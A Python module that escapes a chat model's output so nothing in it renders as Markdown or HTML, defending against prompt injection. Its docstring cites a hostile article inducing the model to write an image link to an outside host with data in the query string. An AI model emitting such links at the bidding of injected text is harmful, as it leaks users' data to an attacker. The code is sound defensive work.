"""Model text made inert for anything that renders Markdown (the chat page, an OpenAI client): nothing in it
links, loads an image, starts HTML or formats, except the [n] citation markers, which stay as written. A
hostile article can ask the model to write `![x](http://host/?q=...)`; shown inert, no browser fetches it.
Plain answers read as written: only what could open Markdown or HTML gets a backslash."""

from __future__ import annotations

import re

_MARKER = re.compile(r"\[(\d{1,3})\]")
_OPENERS = re.compile(r"([\\`*_\[\]<>!|~])")  # emphasis, code, links and images, HTML, tables, strike-through
_AUTOLINK = re.compile(r"(?i)(\b[a-z][a-z0-9+.-]*):(?=//)|(\bwww)\.")  # "http://", "www." link by themselves
_BLOCK = re.compile(r"(?m)^(\s*)([#>+=-]|\d+(?=[.)]))")  # headings, quotes, lists at a line's start
_ESCAPED = re.compile(r"\\([\\`*_\[\]<>!|~#+=.:)-])")


def _inert(piece: str) -> str:
    piece = _OPENERS.sub(r"\\\1", piece)
    piece = _AUTOLINK.sub(lambda m: f"{m.group(1)}\\:" if m.group(1) else f"{m.group(2)}\\.", piece)
    return _BLOCK.sub(lambda m: m.group(1) + "\\" + m.group(2) if not m.group(2)[0].isdigit()
                      else m.group(1) + m.group(2) + "\\", piece)  # fmt: skip


def inert_markdown(text: str) -> str:
    """text with a backslash before whatever could make Markdown or HTML of it (it renders as written), line
    breaks kept, and the [n] markers left as they are."""
    pieces = _MARKER.split(text)  # text, number, text, number, ...
    return "".join(f"[{piece}]" if n % 2 else _inert(piece) for n, piece in enumerate(pieces))


def plain_text(markdown: str) -> str:
    """inert_markdown's text as it was written."""
    return _ESCAPED.sub(r"\1", markdown)
